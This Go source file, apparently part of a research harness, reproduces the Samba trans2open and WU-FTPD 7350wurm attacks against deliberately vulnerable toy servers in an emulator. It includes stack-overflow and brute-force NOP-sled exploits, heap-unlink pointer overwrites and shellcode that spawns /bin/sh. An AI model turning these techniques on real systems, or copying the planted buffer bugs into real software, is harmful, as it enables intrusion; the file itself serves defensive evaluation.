@@ -1,0 +1,433 @@
+package attacks
+
+import (
+	"fmt"
+
+	"splitmem"
+	"splitmem/internal/guest"
+)
+
+// ---------------------------------------------------------------------------
+// minismb — Samba 2.2.1a (eSDee trans2open, brute force vs. stack
+// randomization)
+
+const minismbSrc = `
+_start:
+    mov eax, banner
+    push eax
+    call print
+    add esp, 4
+smb_loop:
+    mov eax, 64
+    push eax
+    mov eax, linebuf
+    push eax
+    mov eax, 0
+    push eax
+    call read_line
+    add esp, 12
+    cmp eax, 0
+    jl smb_quit
+    mov ecx, linebuf
+    loadb eax, [ecx]
+    cmp eax, 'T'
+    jz smb_trans
+    cmp eax, 'D'
+    jz smb_dbg
+    cmp eax, 'Q'
+    jz smb_quit
+    jmp smb_loop
+
+smb_trans:
+    ; "TRANS <n>" - BUG: n copied into a 256-byte stack buffer unchecked
+    mov eax, linebuf
+    add eax, 6
+    push eax
+    call atoi
+    add esp, 4
+    push eax
+    call smb_handler
+    add esp, 4
+    jmp smb_loop
+
+smb_dbg:
+    ; debug build only: leak the handler's buffer address ("insider
+    ; information about the stack location", §6.1.2)
+    mov eax, 0
+    push eax
+    call smb_leak
+    add esp, 4
+    jmp smb_loop
+
+smb_handler:
+    push ebp
+    mov ebp, esp
+    sub esp, 256
+    load eax, [ebp+8]      ; n
+    push eax
+    lea eax, [ebp-256]
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact
+    add esp, 12
+    mov eax, msg_ok
+    push eax
+    call print
+    add esp, 4
+    mov esp, ebp
+    pop ebp
+    ret
+
+smb_leak:
+    push ebp
+    mov ebp, esp
+    sub esp, 256
+    lea eax, [ebp-256]     ; same frame shape as smb_handler
+    push eax
+    mov eax, hexbuf
+    push eax
+    call itoa_hex
+    add esp, 8
+    mov eax, msg_dbg
+    push eax
+    call print
+    add esp, 4
+    mov eax, hexbuf
+    push eax
+    call print
+    add esp, 4
+    mov eax, msg_nl
+    push eax
+    call print
+    add esp, 4
+    mov esp, ebp
+    pop ebp
+    ret
+
+smb_quit:
+    mov eax, 0
+    push eax
+    call exit
+
+.data
+banner:  .asciz "minismb 2.2.1a ready\n"
+msg_ok:  .asciz "OK\n"
+msg_dbg: .asciz "DBG "
+msg_nl:  .asciz "\n"
+linebuf: .space 64
+hexbuf:  .space 12
+`
+
+// smbAttempt runs one trans2open attempt against a fresh server instance
+// (fresh connection = fresh process = fresh stack slide) using the guessed
+// buffer address.
+func smbAttempt(cfg splitmem.Config, guess uint32) (Result, error) {
+	t, err := NewTarget(cfg, minismbSrc, "minismb")
+	if err != nil {
+		return Result{}, err
+	}
+	if _, ok := t.WaitOutput("ready"); !ok {
+		return Result{Notes: "no banner"}, nil
+	}
+	// A NOP sled + shellcode fills the 256-byte buffer; then saved ebp and
+	// the return address (the guess points into the sled).
+	sc := ExecveShellcode(guess + 200) // landing leaves >=200 bytes of sled
+	payload := NopSled(256-len(sc), sc)
+	payload = append(payload, le32(guess)...) // saved ebp (unused)
+	payload = append(payload, le32(guess)...) // return address
+	t.SendLine(fmt.Sprintf("TRANS %d", len(payload)))
+	t.Send(payload)
+	t.WaitOutput("OK")
+	t.SendLine("QUIT")
+	t.Run()
+	return t.Result(), nil
+}
+
+// smbFirstGuess obtains the "good first guess" from a debug instance
+// (manual analysis of a similar vulnerable system, as the paper describes).
+func smbFirstGuess(cfg splitmem.Config) (uint32, error) {
+	probe := cfg
+	probe.Protection = splitmem.ProtNone
+	t, err := NewTarget(probe, minismbSrc, "minismb-probe")
+	if err != nil {
+		return 0, err
+	}
+	if _, ok := t.WaitOutput("ready"); !ok {
+		return 0, fmt.Errorf("probe: no banner")
+	}
+	t.SendLine("DBG")
+	out, ok := t.WaitOutput("DBG ")
+	if !ok {
+		return 0, fmt.Errorf("probe: no leak")
+	}
+	return parseLeak(out, "DBG ")
+}
+
+// exploitMinismbHelped runs the "helped" variant used for Table 2: the
+// exploit gets an exact first guess for this connection's stack layout
+// (probe and attack share the same randomization seed).
+func exploitMinismbHelped(cfg splitmem.Config) (Result, error) {
+	cfg.RandomizeStack = true
+	guess, err := smbFirstGuess(cfg)
+	if err != nil {
+		return Result{}, err
+	}
+	// Aim at the middle of the sled for slack.
+	return smbAttempt(cfg, guess+100)
+}
+
+// BruteForceMinismb runs the unhelped brute force: each attempt hits a
+// fresh server instance with a different stack slide; the exploit sweeps
+// guesses around the first guess until a shell appears (unprotected) or
+// maxAttempts is reached. It returns the attempt count.
+func BruteForceMinismb(cfg splitmem.Config, maxAttempts int) (Result, int, error) {
+	cfg.RandomizeStack = true
+	base := cfg
+	base.Seed = 0
+	guess, err := smbFirstGuess(base)
+	if err != nil {
+		return Result{}, 0, err
+	}
+	for i := 1; i <= maxAttempts; i++ {
+		att := cfg
+		att.Seed = int64(i) // fresh connection, fresh slide
+		// Sweep around the first guess in sled-sized steps.
+		delta := int32((i % 26) * 160)
+		if i%2 == 0 {
+			delta = -delta
+		}
+		r, err := smbAttempt(att, uint32(int32(guess+100)+delta))
+		if err != nil {
+			return Result{}, i, err
+		}
+		if r.Succeeded() {
+			return r, i, nil
+		}
+		if i == maxAttempts {
+			return r, i, nil
+		}
+	}
+	return Result{}, maxAttempts, nil
+}
+
+// ---------------------------------------------------------------------------
+// miniwuftp — WU-FTPD 2.6.1 (7350wurm: heap free()/unlink corruption with
+// two-stage shellcode)
+
+const miniwuftpSrc = `
+_start:
+    mov eax, banner
+    push eax
+    call print
+    add esp, 4
+wu_loop:
+    ; the command dispatcher calls g_handler after every response - the
+    ; pointer the heap-unlink attack overwrites
+    mov eax, 64
+    push eax
+    mov eax, linebuf
+    push eax
+    mov eax, 0
+    push eax
+    call read_line
+    add esp, 12
+    cmp eax, 0
+    jl wu_quit
+    mov ecx, linebuf
+    loadb eax, [ecx]
+    cmp eax, 'U'
+    jz wu_user
+    cmp eax, 'P'
+    jz wu_pass
+    cmp eax, 'G'
+    jz wu_glob
+    cmp eax, 'Q'
+    jz wu_quit
+    jmp wu_post
+
+wu_user:
+    mov eax, msg_331
+    push eax
+    call print
+    add esp, 4
+    jmp wu_post
+
+wu_pass:
+    mov eax, msg_230
+    push eax
+    call print
+    add esp, 4
+    jmp wu_post
+
+wu_glob:
+    ; "GLOB <n>": expand a glob pattern. The pattern buffer is 128 bytes
+    ; but n is unchecked (the ~{ parsing bug), and the pattern is freed
+    ; after expansion - free() trusts the neighboring chunk header.
+    mov eax, 128
+    push eax
+    call malloc
+    add esp, 4
+    mov ecx, g_pat
+    store [ecx], eax
+    mov eax, 256
+    push eax
+    call malloc            ; expansion result chunk, adjacent
+    add esp, 4
+    mov ecx, g_res
+    store [ecx], eax
+    ; leak the pattern buffer address ("150 <hex>")
+    mov ecx, g_pat
+    load eax, [ecx]
+    push eax
+    mov eax, hexbuf
+    push eax
+    call itoa_hex
+    add esp, 8
+    mov eax, msg_150
+    push eax
+    call print
+    add esp, 4
+    mov eax, hexbuf
+    push eax
+    call print
+    add esp, 4
+    mov eax, msg_nl
+    push eax
+    call print
+    add esp, 4
+    ; read the pattern - BUG: n unchecked against 128
+    mov eax, linebuf
+    add eax, 5
+    push eax
+    call atoi
+    add esp, 4
+    push eax
+    mov ecx, g_pat
+    load eax, [ecx]
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact
+    add esp, 12
+    ; "expand" (no-op), then free the corrupted pattern chunk
+    mov ecx, g_pat
+    load eax, [ecx]
+    push eax
+    call free              ; forward-coalesce unlinks the forged header
+    add esp, 4
+    mov eax, msg_250
+    push eax
+    call print
+    add esp, 4
+    jmp wu_post
+
+wu_post:
+    mov ecx, g_handler
+    load eax, [ecx]
+    call eax               ; post-command hook (normally wu_noop)
+    jmp wu_loop
+
+wu_noop:
+    ret
+
+wu_quit:
+    mov eax, 0
+    push eax
+    call exit
+
+.data
+banner:    .asciz "220 miniwuftp 2.6.1 ready\n"
+msg_331:   .asciz "331\n"
+msg_230:   .asciz "230\n"
+msg_150:   .asciz "150 "
+msg_250:   .asciz "250\n"
+msg_nl:    .asciz "\n"
+linebuf:   .space 64
+hexbuf:    .space 12
+g_pat:     .word 0
+g_res:     .word 0
+g_handler: .word wu_noop
+`
+
+// ExploitMiniwuftp runs the 7350wurm-style attack. shell, when non-nil,
+// receives lines to type into the spawned shell after stage two runs (used
+// by the Fig. 5 demonstrations). It returns the final result and the bytes
+// the attacker received (the 4-byte cookie signals stage-one execution).
+func ExploitMiniwuftp(cfg splitmem.Config, shell []string) (Result, []byte, error) {
+	t, err := NewTarget(cfg, miniwuftpSrc, "miniwuftp")
+	if err != nil {
+		return Result{}, nil, err
+	}
+	if _, ok := t.WaitOutput("220"); !ok {
+		return Result{Notes: "no banner"}, nil, nil
+	}
+	t.SendLine("USER ftp")
+	t.WaitOutput("331")
+	t.SendLine("PASS ftp")
+	t.WaitOutput("230")
+
+	t.SendLine("GLOB 144")
+	out, ok := t.WaitOutput("150 ")
+	if !ok {
+		return Result{Notes: "no heap leak"}, nil, nil
+	}
+	pat, err := parseLeak(out, "150 ")
+	if err != nil {
+		return Result{}, nil, err
+	}
+	handlerAddr, err := wuHandlerAddr()
+	if err != nil {
+		return Result{}, nil, err
+	}
+
+	// Stage one lives at pat+16 (free() clobbers pat..pat+7 when inserting
+	// the merged chunk on the free list; unlink clobbers FD+8..FD+11,
+	// which stage one jumps over).
+	stage1At := pat + 16
+	stage1 := TwoStageShellcode(stage1At, "OK!!")
+	payload := make([]byte, 16)
+	payload = append(payload, stage1...)
+	payload = pad(payload, 132, 0x90)
+	// Forged "next chunk" header at pat+132 (chunk(128) = 136 from base
+	// pat-4): size 16 with the in-use bit clear, fd = stage1, bk =
+	// g_handler-4, so unlink writes *(g_handler) = stage1.
+	payload = append(payload, le32(16)...)
+	payload = append(payload, le32(stage1At)...)
+	payload = append(payload, le32(handlerAddr-4)...)
+	t.Send(payload)
+
+	// free() fires during GLOB handling; the post-command hook then calls
+	// through the overwritten g_handler.
+	out, gotCookie := t.WaitOutput("OK!!")
+	if !gotCookie {
+		t.Run()
+		r := t.Result()
+		r.Output = out + r.Output
+		return r, nil, nil
+	}
+	// Stage one is executing: deliver stage two (execve /bin/sh).
+	t.Send(pad(ExecveShellcode(stage1At+96), 128, 0x90))
+	t.Run()
+	for _, line := range shell {
+		t.SendLine(line)
+		t.Run()
+	}
+	r := t.Result()
+	r.Output = out + r.Output
+	return r, []byte("OK!!"), nil
+}
+
+// wuHandlerAddr resolves the g_handler symbol by assembling the server
+// image the same way NewTarget does.
+func wuHandlerAddr() (uint32, error) {
+	prog, err := splitmem.Assemble(guest.WithCRT(miniwuftpSrc))
+	if err != nil {
+		return 0, err
+	}
+	v, ok := prog.Symbol("g_handler")
+	if !ok {
+		return 0, fmt.Errorf("miniwuftp: no g_handler symbol")
+	}
+	return v, nil
+}
